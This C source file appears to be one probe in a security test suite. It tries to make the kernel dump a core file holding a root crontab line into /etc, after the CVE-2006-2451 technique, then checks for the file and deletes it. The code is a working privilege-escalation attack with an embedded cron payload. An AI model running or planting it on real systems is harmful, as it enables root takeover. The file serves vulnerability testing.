// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. Dies in a protected directory with a text of its choice in memory: the kernel writes that there,
 * as "core". Source: core(5); CVE-2006-2451, a core dump in /etc/cron.d. Control: the file is there.
 */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

static void die_there(void)
{
	static char text[] = "\n* * * * * root /tmp/intruder\n";
	const struct rlimit no_limit = { RLIM_INFINITY, RLIM_INFINITY };

	if (chdir("/etc") || setrlimit(RLIMIT_CORE, &no_limit))
		_exit(1);
	__asm__ volatile("" : : "r"(text) : "memory");
	signal(SIGSEGV, SIG_DFL);
	kill(getpid(), SIGSEGV);
	_exit(1);
}

void attack(void)
{
	struct stat info;
	char path[64];
	pid_t pid;

	unlink("/etc/core");
	pid = fork();
	if (pid == 0)
		die_there();
	snprintf(path, sizeof(path), "/etc/core.%d", pid);
	waitpid(pid, NULL, 0);
	if (stat("/etc/core", &info) == 0 || stat(path, &info) == 0) {
		unlink("/etc/core");
		unlink(path);
		effect();
	}
	no_effect(errno);
}
